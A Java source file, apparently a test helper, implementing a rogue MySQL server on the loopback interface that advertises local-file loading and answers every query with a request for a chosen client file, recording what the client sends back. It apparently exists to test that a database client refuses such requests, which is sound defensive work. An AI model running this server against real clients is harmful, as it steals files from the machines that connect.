package candela.engine.data;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;

/** A server that lets everybody in and answers every statement with the wish to read a file of the client's. */
final class RogueMySql implements AutoCloseable {

    private static final int QUERY = 3;

    private final ServerSocket door = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    private final ByteArrayOutputStream stolen = new ByteArrayOutputStream();
    private final Path wanted;
    private volatile boolean asked;

    private RogueMySql(Path wanted) throws IOException {
        this.wanted = wanted;
    }

    static RogueMySql wanting(Path file) throws IOException {
        var rogue = new RogueMySql(file);
        Thread.ofVirtual().start(rogue::serve);
        return rogue;
    }

    int port() {
        return door.getLocalPort();
    }

    boolean asked() {
        return asked;
    }

    String stolen() {
        return stolen.toString(StandardCharsets.UTF_8);
    }

    private void serve() {
        while (!door.isClosed()) {
            try (var client = door.accept()) {
                client.setSoTimeout(10_000);
                serve(client);
            } catch (IOException e) {
                // The client went away, or the test is over.
            }
        }
    }

    private void serve(Socket client) throws IOException {
        var in = new DataInputStream(client.getInputStream());
        var out = client.getOutputStream();
        write(out, 0, greeting());
        read(in);
        write(out, 2, new byte[] {0, 0, 0, 2, 0, 0, 0});
        while (true) {
            var packet = read(in);
            if (packet.number == 0 && packet.body.length > 0 && packet.body[0] == QUERY) {
                asked = true;
                write(out, 1, ("\u00fb" + wanted).getBytes(StandardCharsets.ISO_8859_1));
            } else if (packet.number > 0) {
                stolen.writeBytes(packet.body);
                write(out, packet.number + 1, new byte[] {0, 0, 0, 2, 0, 0, 0});
            }
        }
    }

    /** Protocol 10: version, thread, scramble, abilities (local files among them), and how to sign in. */
    private static byte[] greeting() {
        var bytes = new ByteArrayOutputStream();
        bytes.write(10);
        bytes.writeBytes("8.0.36\0".getBytes(StandardCharsets.US_ASCII));
        bytes.writeBytes(new byte[] {1, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 0});
        bytes.writeBytes(new byte[] {(byte) 0x8d, (byte) 0xa2, 45, 2, 0, 8, 0, 21});
        bytes.writeBytes(new byte[10]);
        bytes.writeBytes(new byte[] {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 0});
        bytes.writeBytes("mysql_native_password\0".getBytes(StandardCharsets.US_ASCII));
        return bytes.toByteArray();
    }

    private record Packet(int number, byte[] body) {}

    private static Packet read(DataInputStream in) throws IOException {
        var length = in.readUnsignedByte() | in.readUnsignedByte() << 8 | in.readUnsignedByte() << 16;
        var number = in.readUnsignedByte();
        var body = new byte[length];
        in.readFully(body);
        return new Packet(number, body);
    }

    private static void write(OutputStream out, int number, byte[] body) throws IOException {
        out.write(
                new byte[] {(byte) body.length, (byte) (body.length >> 8), (byte) (body.length >> 16), (byte) number});
        out.write(body);
        out.flush();
    }

    @Override
    public void close() throws IOException {
        door.close();
    }
}
